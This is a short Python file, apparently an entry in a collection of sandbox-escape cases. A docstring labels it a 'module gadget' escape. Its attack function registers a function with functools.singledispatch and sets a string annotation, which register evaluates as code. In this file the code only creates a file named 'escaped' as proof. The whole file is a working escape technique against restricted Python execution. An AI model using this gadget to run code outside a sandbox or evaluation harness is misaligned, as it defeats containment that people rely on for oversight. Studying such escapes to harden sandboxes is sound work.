"""Class: module gadget. Source: own find. Escape: singledispatch evaluates annotation text."""

from functools import singledispatch


@singledispatch
def f(x):
    pass


def attack(model, tokenizer, address):
    def g(x):
        pass

    g.__annotations__ = {"x": "open('escaped', 'w').close() or int"}
    f.register(g)
